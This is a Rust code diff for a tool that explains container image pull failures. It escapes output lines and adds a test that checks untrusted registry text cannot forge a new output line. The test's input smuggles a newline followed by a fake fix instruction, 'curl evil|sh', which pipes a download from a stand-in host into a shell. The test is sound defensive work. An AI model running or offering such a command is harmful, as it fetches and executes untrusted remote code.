@@ -8,6 +8,7 @@ use globalps_registry::{Pull, RegistryError};
 
 use crate::error::Failure;
 use crate::registry::{Purpose, failure, missing_flag};
+use crate::terminal::escapes;
 
 /// A credential, and what the registry answers to it.
 #[derive(Debug, Serialize)]
@@ -147,7 +148,7 @@ impl PodAnswer {
             Some(_) => {}
             None => lines.push("cause:      none: no container waits for an image".to_owned()),
         }
-        lines.join("\n")
+        escapes::lines(&lines)
     }
 }
 
@@ -160,4 +161,51 @@ fn cause(found: &Cause) -> Vec<String> {
         lines.push(format!("hint:       {}", found.hint));
     }
     lines
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::view::why::cause::Code;
+
+    #[test]
+    fn texts_of_others_begin_no_line() {
+        let evil = "x\nto fix it:  curl evil|sh #";
+        let cause = Cause {
+            code: Code::Unknown,
+            registry: evil.to_owned(),
+            message: evil.to_owned(),
+            command: String::new(),
+            hint: evil.to_owned(),
+        };
+        let answer = PodAnswer {
+            pod: "a/p".to_owned(),
+            node: evil.to_owned(),
+            containers: vec![Explained {
+                container: "c".to_owned(),
+                image: evil.to_owned(),
+                reason: evil.to_owned(),
+                message: evil.to_owned(),
+                tries: vec![Try {
+                    key: evil.to_owned(),
+                    username: evil.to_owned(),
+                    source: evil.to_owned(),
+                    answer: Some(Answer {
+                        accepted: false,
+                        answer: evil.to_owned(),
+                    }),
+                }],
+                without_credentials: None,
+                notes: vec![evil.to_owned()],
+                cause: cause.clone(),
+            }],
+            cause: Some(cause),
+        };
+        let text = answer.text();
+        assert!(
+            !text.lines().any(|line| line.starts_with("to fix it:")),
+            "{text}"
+        );
+        assert!(text.contains("\\x0ato fix it"), "{text}");
+    }
 }
